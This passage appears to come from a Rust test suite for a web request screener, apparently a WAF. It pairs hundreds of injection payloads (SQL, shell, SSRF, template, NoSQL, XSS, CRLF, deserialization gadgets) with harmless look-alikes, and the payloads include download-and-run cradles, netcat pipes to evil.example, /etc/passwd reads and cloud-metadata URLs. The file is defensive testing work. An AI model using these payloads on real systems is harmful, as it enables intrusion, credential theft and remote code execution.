            "or browse the path list\" select \"Search by Patch IDs\" from",
            "<li>fixed unparsed-entity-uri() and generate-id()</li>\n<li>fixed key()</li>",
        ],
    );
}

#[test]
fn select_glued_to_its_expression_and_from() {
    table(
        "sqli",
        Q,
        &[
            "SELECT~1.FROM`test`",
            "SELECT@^1.FROM`test`",
            "SELECT-id-1.FROM`test`",
            "SELECT-1e1FROM`test`",
            "SELECT\\NFROM`test`",
        ],
        &[
            "select-from-list widget",
            "the SELECT-O-MATIC from Acme",
            "select.from(items) in our DSL",
        ],
    );
}

#[test]
fn plus_as_space_in_cookies_and_url_encoded_headers() {
    table(
        "sqli",
        FieldKind::HeaderValue,
        &["%0A%0d+select+user+from+dual+%0A%0D"],
        &[
            "https://shop.example/search?q=red+shoes%20size+42&sort=price",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ],
    );
    table(
        "cmdi",
        FieldKind::CookieValue,
        &[";+$u+cat+/etc$u/passwd$u"],
        &["q1Zy+Lw8r2/KpQ+0xTz9==", "C++ and C#", "a+b=c"],
    );
    table(
        "sqli",
        FieldKind::CookieValue,
        &["%0A%0d+select+user+from+dual+%0A%0D", "1'+or+'1'='1"],
        &["en-GB+fr-FR", "last+viewed+item%3A+42"],
    );
}

#[test]
fn constant_like_conditions_next_to_prose_with_like_and_or() {
    table(
        "sqli",
        Q,
        &[
            "1 or 1 like 1",
            "2 AND 2 RLIKE 2#",
            "1) or (1 like 1)--",
            "-1 or 'a' like 'a'",
            "5 and 5 is not null",
            "7 xor 7 not regexp 8 limit 1",
        ],
        &[
            "1 or 2 like 3 friends",
            "I like 1 or 2",
            "1 or 2 items like these",
            "1 or 2 is null, ok",
            "10 or 12 is null safe",
        ],
    );
}

#[test]
fn arithmetic_facts_pass_where_constant_conditions_do_not() {
    table(
        "sqli",
        FieldKind::BodyValue,
        &[
            "1 and 3*2=6",
            "1=1 and 2*3=6",
            "-1 OR 3*2=6",
            "x=1 and 2*3=6",
        ],
        &[
            "1+1=2 and 2*3=6",
            "2 + 2 = 4 and 3 * 3 = 9, so",
            "so 2 > 1 and 3 < 4, that's math",
        ],
    );
}

/// A query value as `encodeURIComponent` sends it keeps its quotes but encodes its spaces:
/// that raw view is left to the decoded one, which is screened as well.
#[test]
fn raw_views_with_encoded_spaces_are_read_decoded() {
    table(
        "sqli",
        Q,
        &[
            "x'%20or%201=1--",
            "1%20union%20select%20password%20from%20users",
            "admin'--%20",
        ],
        &[
            "he%20said%20'select%20*%20from%20users'%20is%20a%20query",
            "error:%20logical%20'or'%20of%20equal%20expressions",
            "Sleep(8%20hours)%20is%20the%20best",
            "Tom's%20order%20%235%20--%20shipped",
        ],
    );
}

#[test]
fn editor_escapes_caret_escapes_cmd_variables_and_recon_tools() {
    table(
        "cmdi",
        Q,
        &[
            ";vi dddd +silent\\\\ \\!whoami +wq",
            ";ex dddd +silent\\\\ \\!whoami +wq",
            "x|vim -c ':!/bin/sh'",
            "vi -c '!id' /dev/null",
            "&^w^h^o^a^m^i",
            ";who^ami",
            "&& echo %USERNAME%",
            "& type %windir%\\win.ini",
            "| findstr /s password *.txt",
            ";lsb_release -a",
            ";$a cat test.txt",
            "{n$u\\c$u,-nlvp,777}",
            "/[e///]tc",
        ],
        &[
            "I use vi every day! It is great",
            "ex-partner; view it later!",
            "try vim + plugins! /s",
            "e^x grows fast; x^2 + y^2",
            "the d^2 term, a^b^c",
            "save 20% & echo 50% of it",
            "Q&A: echo %",
            "findstr is a Windows tool",
            "costs $a cat",
            "Ke$ha & A$AP Rocky",
            "/[lang]/about and pages/[id].js",
            "/[locale]/blog/[slug]",
            "see app/[locale]/[slug]/page.tsx",
        ],
    );
}

#[test]
fn php_callables_with_comments_between_their_tokens() {
    table(
        "php",
        Q,
        &[
            "(/* comment */system)(ls/* comment */);",
            "(  [  system  ][  0  ])  {/* comment */0}  (  ls  );",
            "([system][0])(ls);",
        ],
        &[
            "call (system) (ls is a command) /* x */",
            "the array [system][0] holds the name /* doc */",
            "/* see the system docs */ (ls is short for list)",
        ],
    );
}

#[test]
fn diffstat_lines_and_capitalised_alias_are_not_admin_commands() {
    table(
        "cmdi",
        Q,
        &["alias ls='rm -rf /'", "/usr/bin/id", "bin/sh -i"],
        &[
            "bin/Makefile.am           |   2 +-",
            "bin/meson.build | 8 ++++----",
            "bin/getopt1.c                                         |  213 +",
        ],
    );
}

#[test]
fn shell_reads_raw_query_values_only_through_their_decoded_view() {
    table(
        "cmdi",
        Q,
        &["1;%20sleep%205", "|%20id", ";cat%20/etc/passwd", "x%0Aid"],
        &[
            "test;%20might%20need%20specific%20drivers",
            "copy;%202024%20Acme%20Inc.",
        ],
    );
}

#[test]
fn powershell_cradles_substring_expansions_and_windows_delays() {
    table(
        "cmdi",
        Q,
        &[
            "powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example/p.ps1')",
            "(New-Object System.Net.WebClient).DownloadFile('http://x.example/a.exe','a.exe')",
            "iex (iwr http://x.example/a)",
            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
            "${PATH:0:1}etc${PATH:0:1}passwd",
            "cat ${HOME:0:1}etc${HOME:0:1}hosts",
            "|timeout /T 5",
            "& timeout 5",
            "; sleep 10 #",
        ],
        &[
            "How do I download a file in PowerShell?",
            "powershell is installed on the build agents",
            "the index (iex) of the table",
            "${user.name} signed in",
            "${server.port:8080}",
            "timeout 5 minutes",
            "a timeout /T",
            "sleep 10 hours a night #health",
            "timeout /t is a cmd.exe command to pause",
        ],
    );
}

#[test]
fn local_addresses_named_in_text_are_no_request_but_metadata_and_odd_spellings_are() {
    table(
        "ssrf",
        FieldKind::BodyValue,
        &[
            "http://localhost:3000",
            "http://127.0.0.1/admin",
            "<url>http://10.0.0.1/</url>",
            "webhook: http://169.254.169.254/latest/meta-data/ thanks",
            "see http://0x7f000001/",
            "open http://google.com@127.0.0.1/",
            "then fetch http://metadata.google.internal/computeMetadata/v1/",
            "ping gopher://127.0.0.1:6379/_FLUSHALL",
            "see%20http://169.254.169.254%20now",
            "see%20http://localhost:8080%20@169.254.169.254/",
            "see http://localhost:8080 @169.254.169.254/",
            "http://printer.local/",
            "see http://host.docker.internal:2375/containers/json",
        ],
        &[
            "see http://grafana.monitoring.svc:3000/",
            "Runbook: https://wiki.internal/runbooks/api-5xx",
            "Then open http://localhost:3000 in your browser",
            "Open http://printer.local in your browser",
            "The NAS answers at http://nas.home.arpa:5000",
            "The router admin page is at http://192.168.1.1 by default",
            "the dev server listens on http://0.0.0.0:8080",
            "run it and browse http://127.0.0.1:8000/docs",
            "Open%20http://192.168.0.10:8080/status%20to%20see",
            "Dev+server:+http://localhost:5173/",
            "The%20URL%20http://localhost:8080%20works%20on%20my%20machine",
        ],
    );
}

#[test]
fn dotnet_streams_el_implicit_objects_xpath_breaks_and_mongo_shell_commands() {
    table(
        "java",
        FieldKind::BodyValue,
        &["AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0="],
        &["/wEPDwUKLTkyMTY0MDA1MmRkZ7Kx", "AAEAAAD5////"],
    );
    table(
        "ssti",
        Q,
        &[
            "${applicationScope}",
            "${sessionScope.user}",
            "#{facesContext.externalContext}",
        ],
        &[
            "applicationScope is a JSP object",
            "${scope}",
            "{sessionScope}",
        ],
    );
    table(
        "ssti",
        Q,
        &[
            "@(System.Diagnostics.Process.Start(\"cmd.exe\"))",
            "@(System.IO.File.ReadAllText(\"C:/inetpub/web.config\"))",
            "x@(File.Delete(\"a\"))",
        ],
        &[
            "mail me @(home) about System.IO",
            "see System.Diagnostics.Process docs",
            "Process.Start is async (@ runtime)",
        ],
    );
    table(
        "xpath",
        Q,
        &[
            "') or contains(name,'adm') or ('",
            "' and starts-with(password,'a') and '",
        ],
        &[
            "he said 'yes' or contains(himself)",
            "Tom's or count (them)",
        ],
    );
    table(
        "nosql",
        Q,
        &["'; db.dropDatabase(); var x='", "db.getSiblingDB('admin')"],
        &["run db.dropDatabase in the mongo shell", "mydb.runCommand"],
    );
}

#[test]
fn fuzz_list_probes_and_numeric_hosts() {
    table(
        "xss",
        Q,
        &["'';!--\"<XSS>=&{()}", "\";!--'<x>"],
        &["<!-- a comment -->", "he said 'wow'!-- <b>"],
    );
    table(
        "evasion",
        Q,
        &[
            "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
            "http://0102.0146.07.0223/",
            "see http://1113982867/x",
            "https://192.168.1.010:8443/",
            "http://0xdeadbeef",
        ],
        &[
            "http://example.com:0800/",
            "https://0xdeadbeef.example.com/",
            "http://007.example.com/",
            "https://1password.com/",
            "call 0102 0146 07",
        ],
    );
    table(
        "ldap",
        Q,
        &["*()|&'", "*)(|", "*)(&", "(&)"],
        &["()", "(*)", "||", "&&", "(a|b)", "(&) in a sentence"],
    );
}

#[test]
fn unc_script_includes_parenthesised_js_returns_and_spaced_java_magic() {
    table(
        "rfi",
        Q,
        &[
            "\\\\evil.example\\share\\x.php",
            "\\\\10.0.0.5\\pub\\shell.aspx",
            " \\\\attacker\\s\\payload.exe",
        ],
        &[
            "\\\\fileserver\\finance\\Q3 report.xlsx",
            "\\\\nas01\\photos\\2026\\IMG_0042.jpg",
            "See \\\\intranet\\docs\\setup.exe for the installer",
            "//cdn.example.com/app.php",
        ],
    );
    table(
        "nosql",
        FieldKind::BodyValue,
        &["';return(true);var a='", "'; return ( 1 ); //"],
        &[
            "Press Return (true story) to continue",
            "return (true) is redundant",
        ],
    );
    table(
        "java",
        FieldKind::BodyValue,
        &["AC ED 00 05 73 72", "ac ed 00 05 73 72 00 11"],
        &["AC ED 00 06", "BAC ED 00 05"],
    );
}

#[test]
fn element_breakouts_and_stylesheet_instructions() {
    table(
        "xml",
        FieldKind::BodyValue,
        &[
            "</name><admin>true</admin><name>",
            "</role><role>admin",
            " </ns:user > <ns:isAdmin>1</ns:isAdmin>",
            "</qty><price currency=\"EUR\">0.01</price><qty>",
            "bob</displayName><role>administrator</role><displayName>bob",
            "gift</note><unitPrice>0.01</unitPrice><note>x",
        ],
        &[
            "<p>Hello</p><p>World</p>",
            "Closing tags look like </b> in HTML",
            "</>",
            "</p> is how a paragraph ends",
            "a</b><i>c",
        ],
    );
    table(
        "xxe",
        FieldKind::BodyValue,
        &[
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?>",
            "<?xml-stylesheet href='file:///etc/x.xsl'?><a/>",
        ],
        &[
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
            "Add an xml-stylesheet instruction to style the feed in browsers",
            "<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?>",
        ],
    );
}

#[test]
fn a_raw_text_body_that_is_only_an_include_url() {
    table(
        "rfi",
        FieldKind::BodyText,
        &[
            "http://evil.example/shell.txt?",
            "\\\\evil.example\\share\\x.php",
        ],
        &[
            "See http://evil.example/shell.txt? for the answer",
            "http://example.com/docs",
            "Our share is \\\\fs01\\team\\notes.txt",
        ],
    );
}

#[test]
fn an_operator_between_two_quotes_is_the_empty_string_login_bypass() {
    table(
        "sqli",
        Q,
        &[
            "'-'", "'&'", "'^'", "'*'", "\"-\"", "\"*\"", " 'like' ", "' | '",
        ],
        &[
            "'",
            "''",
            "'-",
            "-'",
            "'a-b'",
            "'-' marks an empty cell",
            "\"*\" means all",
            "x",
        ],
    );
}

#[test]
fn handlebars_literal_blocks_and_template_toolkit_plugins() {
    table(
        "ssti",
        FieldKind::BodyValue,
        &[
            "{{#with \"s\" as |string|}}{{#with \"e\"}}{{/with}}{{/with}}",
            "{{#with 's' as |s|}}x{{/with}}",
            "{{lookup string.sub \"constructor\"}}",
            "[% USE dir = Directory('/') %]",
            "[% USE Dumper(Indent=1) %]",
            "[%- PERL %] print `id` [% END %]",
        ],
        &[
            "{{#with person as |p|}}{{p.name}}{{/with}}",
            "{{#each items}}{{this}}{{/each}}",
            "Use [% INCLUDE header %] at the top",
            "[% user.name %]",
            "100% [percent] sure",
            "lookup the string in the table",
        ],
    );
}

#[test]
fn base64_views_with_vertical_whitespace_and_plus_runs() {
    table(
        "sqli",
        Q,
        &[
            // 1'\vUNION\fSELECT\u{a0}user(),2-- -
            "MScLVU5JT04MU0VMRUNUwqB1c2VyKCksMi0tIC0=",
            // Fullwidth ' or 1=1--, its `++` turned into two spaces by form decoding.
            "77yHIO 9j  9kiDvvJHvvJ3vvJHvvI3vvI0=",
        ],
        &[
            "Meet at Gate  B12 on 2024/05/01",
            "Order  A1B2C3 and  X9Y8Z7",
        ],
    );
}

#[test]
fn struts_context_maps_and_the_nextjs_middleware_bypass() {
    table(
        "java",
        Q,
        &[
            "label='+#request.get('.KEY_velocity.struts2.context').internalGet('ognl').findValue(#parameters.x,{})+'",
            "#session['user']='admin'",
            "#application.put('x',1)",
            "x.internalGet(\"ognl\")",
        ],
        &[
            "#request for comments: how do we get the parameters?",
            "Fixes #session timeout, see #application and #parameters docs.",
            "#attr tag list",
        ],
    );
    table(
        "nodejs",
        FieldKind::HeaderValue,
        &[
            "middleware:middleware:middleware:middleware:middleware",
            "src/middleware:src/middleware:src/middleware",
            "pages/_middleware:pages/_middleware",
        ],
        &[
            "middleware",
            "Express middleware: cors, helmet, morgan",
            "middleware:auth",
        ],
    );
}

#[test]
fn gadgets_in_base64_and_hex_ghostscript_pipes_couchdb_roles_lucene_and_imap() {
    // Ruby Marshal's universal gadget and a LosFormatter ViewState, as exploit tools emit them.
    table(
        "java",
        Q,
        &[
            "BAhbB2MVR2VtOjpTcGVjRmV0Y2hlcm86FUdlbTo6UmVxdWlyZW1lbnQGOhJAcmVxdWlyZW1lbnRz",
            "/wEyvQcAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg==",
            "__VIEWSTATE=/wEyvQcAAQAAAP////8BAAAAAAAAAAwCAAAA",
        ],
        &[
            // A Rails cookie-store session (Marshal of a Hash), ordinary page state.
            "BAh7CEkiD3Nlc3Npb25faWQGOgZFVEkiRTM2YTU0YjJhMzM0ODk1ZTFmZTQ5",
            "/wEPDwUKLTkyMTY0MDA1MmRkZ7Kx",
            "/wEWAgKOsPfSCQLOyvXZBg==",
        ],
    );
    table(
        "evasion",
        Q,
        &[
            "635f5f6275696c74696e5f5f0a6576616c0a28565f5f696d706f72745f5f2827",
            "2F6574632F706173737764",
        ],
        &[
            "5f4dcc3b5aa765d61d8327deb882cf99",
            "a3f5c9e1b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2",
        ],
    );
    table(
        "cmdi",
        Q,
        &[
            "%!PS userdict /setpagedevice undef save mark /OutputFile (%pipe%id > /tmp/x) currentdevice putdeviceprops",
        ],
        &["the %pipe% device of Ghostscript is disabled with -dSAFER"],
    );
    table(
        "nosql",
        Q,
        &[
            "{\"type\":\"user\",\"name\":\"x\",\"roles\":[\"_admin\"],\"roles\":[],\"password\":\"p\"}",
            "*) OR _exists_:password OR (title:*",
        ],
        &[
            "{\"roles\":[\"editor\"]}",
            "_exists_:title AND status:published",
        ],
    );
    table(
        "mail",
        Q,
        &[
            "INBOX\"\r\nA0003 DELETE \"INBOX",
            "x\r\na1 LOGIN admin secret",
            "Support Team\u{85}Reply-To: attacker@evil.example",
            "Team\u{2028}Bcc: list@evil.example",
        ],
        &["INBOX", "Line 1\r\n2 select options below"],
    );
    table(
        "graphql",
        FieldKind::BodyValue,
        &["query\n#legit search\n{\n  __schema\n  #x\n  ,,,\n  {,,types\t{name}}\n}"],
        &["the __schema field of the spec"],
    );
}

#[test]
fn htaccess_that_runs_php_for_images() {
    table(
        "upload",
        FieldKind::BodyValue,
        &[
            "AddType application/x-httpd-php .png .jpg",
            "<FilesMatch \"\\.gif$\">\nSetHandler application/x-httpd-php\n</FilesMatch>",
            "AddHandler cgi-script .jpg",
            "php_value auto_prepend_file /tmp/sess_x",
        ],
        &[
            "AddType image/webp .webp",
            "To run PHP, Apache uses the AddType directive in its configuration.",
            "SetHandler server-status",
        ],
    );
}

#[test]
fn groovy_processes_php_gadget_configs_path_parameter_suffixes_and_map_functions() {
    table(
        "java",
        Q,
        &[
            "throw new Exception('id'.execute().text);",
            "[\"sh\",\"-c\",\"id\"].execute()",
        ],
        &[
            "The job's execute() method runs first",
            "rows.execute() and 'x'.length",
        ],
    );
    table(
        "php",
        FieldKind::BodyValue,
        &[r#"{"as xyz":{"class":"\\GuzzleHttp\\Psr7\\FnStream","_fn_close":"phpinfo"}}"#],
        &["We use GuzzleHttp for outgoing calls and close the stream after use"],
    );
    table(
        "protocol",
        Q,
        &["/app/rest/users;.jsp", "/admin;.css"],
        &[
            "/app/rest/users;jsessionid=1",
            "a;.b is not a path",
            "/docs/readme.jsp",
        ],
    );
    table(
        "nosql",
        FieldKind::BodyValue,
        &["function(){ emit(this.username, this.password); }"],
        &["The service will emit events for this order"],
    );
    table(
        "crlf",
        FieldKind::BodyValue,
        &["/home\nX-Forwarded-Host: evil.example\nRefresh: 0;url=https://evil.example/"],
        &[
            "Notes:\nRefresh: the page every 5 minutes",
            "Refresh rate: 60 Hz",
        ],
    );
}

#[test]
fn markdown_script_links_dangling_markup_css_exfiltration_and_framework_attributes() {
    table(
        "xss",
        FieldKind::BodyValue,
        &[
            "[x](JaVaScRiPt:prompt(origin))",
            "![logo](data:text/html;base64,PHNjcmlwdD4=)",
            "<img src='//evil.example/log?html=",
            "<img src=\"https://evil.example/track?h=",
            "<form id=f action=https://evil.example/steal><button>Continue</button></form><textarea form=f name=d>",
            "input[name=otp][value^=\"4\"]{background-image:url(https://evil.example/otp?d=4)}",
            "<div hx-get=\"https://evil.example/payload.html\" hx-trigger=\"load\"></div>",
            "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'[].constructor.from([1],alert)'\">",
        ],
        &[
            "See [the docs](https://example.com/docs) and [the FAQ](/faq)",
            "<img src=\"https://cdn.example.com/a.png\" alt=\"Our logo\">",
            "Use attribute selectors like input[value^=\"a\"] { color: red }",
            "<div hx-get=\"/api/items\" hx-trigger=\"load\" hx-swap=\"innerHTML\"></div>",
            "<input ng-model=\"user.name\" ng-focus=\"onFocus()\">",
            "<form action=\"https://example.com/search\"><input name=q></form>",
            "There's a pattern in the dark background. Here's a video: <a href=\"https://www.youtube.com/watch?v=",
        ],
    );
    table(
        "xpath",
        Q,
        &[
            "count(/child::node())",
            "count(*[1])",
            "string-length(name(/*[1]))",
        ],
        &["FROM logs-* | STATS errors = COUNT(*) BY service.name | SORT errors DESC"],
    );
}

#[test]
fn script_extensions_cut_off_by_a_nul() {
    table(
        "upload",
        FieldKind::BodyValue,
        &["avatar.php\0.jpg", "shell.aspx\0.png"],
        &["report.pdf", "photo.php.jpg is not a script here", "a\0b"],
    );
}

#[test]
fn filters_and_projections_on_secret_fields_but_not_on_their_neighbours() {
    let b = FieldKind::BodyText;
    table(
        "nosql",
        b,
        &[
            r#"{"email":"admin@example.com","password":{"not":""}}"#,
            r#"{"resetToken":{"not":"E"},"newPassword":"x"}"#,
            r#"{"where":{"author":{"password":{"startsWith":"$2b$10$a"}}}}"#,
            r#"{"filters":{"updatedBy":{"resetPasswordToken":{"$startsWith":"a"}}}}"#,
            r#"{"filter":{"user_created":{"password":{"_starts_with":"$argon2id$"}}}}"#,
            r#"{"where":{"articles":{"some":{"createdBy":{"apiKey":{"startsWith":"sk_live_a"}}}}}}"#,
            r#"{"where":{"id":1},"include":{"author":{"select":{"email":true,"password":true}}}}"#,
            r#"{"where":{"role":"admin"},"select":["email","password","twoFactorSecret"]}"#,
            r#"[{"$unionWith":{"coll":"users","pipeline":[{"$project":{"email":1,"passwordHash":1}}]}}]"#,
            r#"{"query":{"wildcard":{"password_reset_token":{"value":"a*"}}}}"#,
            r#"{"script":{"source":"doc['password.keyword'].value.startsWith('a')"}}"#,
            r#"[{"$match":{}},{"$out":"users"}]"#,
        ],
        &[
            r#"{"email":"ana@example.com","password":"correct horse battery staple"}"#,
            r#"{"passwordExpiresAt":{"lt":"2026-01-01"},"passwordPolicy":{"minLength":12}}"#,
            r#"{"user":{"select":{"id":true,"password":false}}}"#,
            r#"{"fields":["username","password"],"submit":"Log in"}"#,
            r#"{"nutrition":{"salt":{"gte":2}},"select":["name","salt"]}"#,
            r#"{"query":{"prefix":{"sku":"AB-"}}}"#,
            r#"{"where":{"tokens":{"gte":1000}},"select":["model","tokens"]}"#,
            r#"[{"$match":{"status":"paid"}},{"$group":{"_id":"$country","n":{"$sum":1}}}]"#,
        ],
    );
    table(
        "orm",
        b,
        &[
            r#"{"owner__auth_token__key__startswith":"9f"}"#,
            r#"{"q":{"reset_password_token_start":"a"}}"#,
            r#"{"q":{"user_encrypted_password_start":"$2a$12$x"}}"#,
        ],
        &[
            r#"{"q":{"name_start":"a","created_at_gteq":"2026-01-01"}}"#,
            r#"{"password_changed_at__gte":"2026-01-01"}"#,
        ],
    );
}

#[test]
fn redis_commands_cypher_and_busy_waits_smuggled_into_values() {
    table(
        "nosql",
        Q,
        &[
            "x\nSLAVEOF 203.0.113.7 6379\n",
            "sess\r\nFLUSHALL\r\n",
            "x\r\nCONFIG SET dir /var/www/html\r\n",
            "x'),redis.call('set','user:1:role','admin'),('",
            "' MATCH (n) DETACH DELETE n//",
            "' LOAD CSV FROM 'https://203.0.113.7/x' AS l RETURN l//",
            "' CALL apoc.load.json('http://203.0.113.7/') YIELD value RETURN value//",
        ],
        &[
            "Save the file\nflush the cache and try again",
            "Set up a replica of the database in another region",
            "Delete the node and detach the cable first",
            "Load the CSV from the shared drive",
            "The match was deleted after the appeal",
        ],
    );
    table(
        "nodejs",
        Q,
        &[
            "0;var d=new Date();while(new Date()-d<10000){}",
            "a'; var d=new Date(); do{var c=new Date();}while(c-d<5000); var x='",
        ],
        &[
            "while (the queue is short) keep going",
            "wait 5000 ms - then retry",
        ],
    );
}

#[test]
fn options_that_make_a_tool_run_a_program_or_write_a_script() {
    table(
        "cmdi",
        Q,
        &[
            "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
            "--use-compress-program=sh -c id",
            "--upload-pack=touch /tmp/pwned",
            "--remote=x --exec=touch /tmp/pwned",
            "-o /var/www/html/shell.php http://203.0.113.7/shell.txt",
            "-O /var/www/html/s.jsp http://203.0.113.7/s.txt",
            "--use-askpass=/tmp/uploads/x.sh http://203.0.113.7/",
            "-X/var/www/html/shell.php",
        ],
        &[
            "Use -o report.pdf to save the output",
            "--output=json",
            "--exec mode is not supported",
            "-O2 -march=native",
            "Exported to report.sh.txt",
        ],
    );
    table(
        "java",
        Q,
        &[
            "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.7/x.sql'",
            "jdbc:h2:mem:test;INIT=CREATE ALIAS EXEC AS 'String e(String c){return c;}'",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "org.apache.commons",
            "<value>org.apache.commons</value>",
        ],
        &[
            "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1",
            "pkg:maven/org.apache.commons/commons-lang3@3.14.0",
            "org.apache.commons:commons-text:1.10.0",
        ],
    );
    table(
        "ssti",
        Q,
        &[
            "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
            "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
        ],
        &[
            "email me @System admin",
            "{math equation=\"x + y\" x=4 y=5}",
        ],
    );
}

/// Set 24 (written before tuning): redirect targets that fool a local-path or own-domain
/// check, header injection from body fields, mail header words, parenthesis-free script
/// breakouts, rebinding hosts; and the look-alikes that must pass.
#[test]
fn redirect_confusions_header_lines_and_their_look_alikes() {
    const B: FieldKind = FieldKind::BodyValue;
    table(
        "redirect",
        Q,
        &[
            "\\\\attacker.example",
            "/\t/attacker.example",
            "///attacker.example",
            "///evil.example.com/login",
            "https:attacker.example",
            "https:/attacker.example/login",
            "〱attacker.example",
            "ゝattacker.example",
            "//attacker。example",
            "https://attacker.example#.example.com",
            "//attacker.example\\@example.com",
            "attacker.example:443\\@example.com",
        ],
        &[
            "\\\\fs01.corp.local\\share\\report.xlsx",
            "//cdn.example.com/lib.js",
            "https://example.com/#section",
            "https://example.com/?q=1",
            "ーテスト",
            "ワールドカップ。example",
            "http://example.com/a",
            "https:",
            "DOMAIN\\user@example.com",
            "///filled.count.soap",
        ],
    );
    table(
        "crlf",
        B,
        &[
            "api/v1/users/\r\nX-Forwarded-Host:attacker.example",
            "\r\nAccess-Control-Allow-Origin: https://attacker.example",
            "\r\nLink: <https://attacker.example/x.css>;rel=stylesheet",
            "\r\nCache-Control: public,max-age=31536000",
            "users/\r\nX-Accel-Redirect: /internal/admin/",
            "example.com\u{2028}Set-Cookie:x=1",
            "x\u{85}Set-Cookie: sid=1",
        ],
        &[
            "Hi,\r\nCache-Control: no-store is what we send",
            "Content-Type:application/json\nCache-Control:no-cache",
            "Hello team\r\nHost: the meeting is at 5",
            "Set-up notes:\nLocation: Berlin office",
            "Thanks!\r\nLink: see the wiki",
        ],
    );
    table(
        "crlf",
        Q,
        &[
            "čĊSet-Cookie:crlf=injection",
            "Ċlocation: https://evil.example",
        ],
        &["Dobrý den, lokač Location", "Ċ"],
    );
    table(
        "mail",
        B,
        &[
            "victim@example.com\r\nReturn-Path: bounce@attacker.example",
            "victim@example.com\r\nDisposition-Notification-To: spy@attacker.example",
            "=?UTF-8?Q?x=0D=0ABcc:_y@attacker.example?=",
            "=?iso-8859-1?q?Hi=0ATo:_a@evil.example?=",
        ],
        &[
            "=?UTF-8?Q?Caf=C3=A9_Team?=",
            "Return path: the courier took it back",
        ],
    );
    table(
        "xss",
        Q,
        &[
            "';onerror=alert;throw 1;//",
            "\"}{onerror=eval}throw'=alert\\x281\\x29'//",
            "<input autofocus ng-focus=$event.composedPath()|orderBy:'[].constructor.from([1],alert)'>",
        ],
        &[
            "window.onerror handler; throw away the old one",
            "<input ng-model=name>",
        ],
    );
    table(
        "ssrf",
        B,
        &[
            "http://169.254.169.254.1time.127.0.0.1.forever.rebind.network/latest/meta-data/",
            "http://rancher-metadata/latest/self/container",
        ],
        &[
            "Set HTTPS_PROXY=http://proxy.corp.local:3128 and NO_PROXY=localhost,127.0.0.1 but the CLI still times out",
            "http://1.2.3.4.rebind.network/",
        ],
    );
    table(
        "lfi",
        Q,
        &[
            "\"/var/log/apache2/access.log\"",
            "x\"/etc/passwd",
            "{\"file\":\"/etc/passwd\"}",
        ],
        &[
            "host:ip-10-0-12-34* AND source:\"/var/log/syslog\" AND \"disk quota exceeded\"",
            "source:%22/var/log/syslog%22%20AND%20%22disk%20quota%22",
        ],
    );
    table(
        "sqli",
        Q,
        &[
            "select * from northwind.dbo.orders",
            "SELECT * FROM Northwind.Customers",
        ],
        &[
            "GDPR request: please delete all data for former employee j.doe@northwind.example (user ID 55102).",
            "https://www.northwind.example/careers",
        ],
    );
    table(
        "cmdi",
        Q,
        &[
            ";(id|sh)",
            "$(id|sh)",
            "x (whoami|nc evil.example 4444)",
            "-utouch /tmp/pwned",
            "--config=core.sshCommand=touch /tmp/pwned",
            "-c core.fsmonitor=id",
        ],
        &[
            "^(build|test|lint)(/.+)?$",
            "^(feat|fix|docs|chore|refactor|test|ci)(\\([a-z0-9-]+\\))?!?: .{1,72}$",
            "^(feature|bugfix|hotfix)/[A-Z]+-[0-9]+$",
            "(?:test|lint)",
            "-u admin -p",
            "-update the docs",
            "score.sshcommand = 3",
        ],
    );
}

/// Set 25 (written before tuning): template authoring next to template injection, .NET and
/// Jackson gadgets, and markup a CMS saves next to markup that runs.
#[test]
fn templates_gadgets_and_cms_markup_next_to_their_look_alikes() {
    const B: FieldKind = FieldKind::BodyValue;
    table(
        "ssti",
        B,
        &[
            "{{ range(10) }}",
            "{{ [\"__cla\",\"ss__\"]|join }}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
            "{% if request.application.__globals__ %}x{% endif %}",
            "{% apply system %}cat /etc/passwd{% endapply %}",
            "{% set x = 1 %}",
            "{% if True %}49{% endif %}",
            "{%if 1%}x{%endif%}",
            "{% include '../../../etc/passwd' %}",
            "{{ .Exec \"id\" }}",
            "{{ .ReadFile \"/etc/passwd\" }}",
            "{{ range $k, $v := .Env }}{{ $k }}={{ $v }}\n{{ end }}",
            "{{ printf \"%s\" (index .Env \"AWS_SECRET_ACCESS_KEY\") }}",
        ],
        &[
            "Hi {{.FirstName}},\n{{range .Items}}- {{.Title}} ({{.Views}} views)\n{{end}}",
            "Posted in {{ page.categories | join: \", \" }}.",
            "{% if order.shipping_address %}<p>Shipping to {{ order.shipping_address.city }}</p>{% endif %}",
            "{% for line in line_items %}<li>{{ line.title }}</li>{% endfor %}",
            "{% for star in (1..5) %}*{% endfor %}",
            "{% include newsletter-signup.html %}",
            "{% filter upper %}hello{% endfilter %}",
            "{{ .Get \"title\" }}",
        ],
    );
    table(
        "php",
        B,
        &["$t('id')", "$t($_GET[0])", "$f(common.x)"],
        &["$t(common.appName) is now available on Android"],
    );
    table(
        "java",
        B,
        &[
            "System.Windows.Data.ObjectDataProvider:#PresentationFramework",
            "System.Diagnostics.Process, System, Version=4.0.0.0",
            "<ObjectDataProvider MethodName=\"Start\" ObjectType=\"{x:Type Diag:Process}\">",
            "clr-namespace:System.Diagnostics;assembly=system",
            "System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework]]",
        ],
        &[
            "How do I bind a ComboBox through an ObjectDataProvider in WPF?",
            "We call System.Diagnostics.Process.Start to open the PDF viewer",
        ],
    );
    table(
        "ssrf",
        B,
        &[
            "rmi://203.0.113.47:1099/Exploit",
            "iiop://x7k2q.oast.example:900/a",
